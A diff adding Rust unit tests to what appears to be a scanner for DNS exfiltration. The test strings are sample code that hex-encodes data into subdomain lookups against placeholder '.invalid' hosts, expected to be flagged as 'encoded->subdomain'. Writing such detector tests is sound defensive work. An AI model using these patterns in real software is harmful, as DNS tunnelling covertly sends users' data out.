@@ -753,6 +753,13 @@ mod tests {
             found("async fn f(r: &R, ip: &str) { r.lookup_ip(format!(\"{ip}.zen.list.invalid\")).await; }"),
             [""; 0]
         );
+        let joined = |parts: &str| {
+            format!("const ROOT: [&str; 3] = [{parts}]; fn f(nums: &[u16]) {{
+                let shards: Vec<String> = nums.iter().map(|n| format!(\"{{n:03x}}.{{}}:53\", ROOT.join(\".\"))).collect();
+                for s in shards {{ let _ = s.to_socket_addrs(); }} }}")
+        };
+        assert_eq!(found(&joined("\"wl\", \"lines\", \"invalid\"")), ["encoded->subdomain"]);
+        assert_eq!(found(&joined("a, b, c")), [""; 0]);
         let own = "fn label(d: &[u8]) -> String { d.iter().map(|b| format!(\"{b:02x}\")).collect() }
             async fn f(r: &R, d: &[u8]) { r.txt_lookup(format!(\"{}.c.lines.invalid\", label(d))).await; }";
         assert_eq!(found(own), ["encoded->subdomain"]);
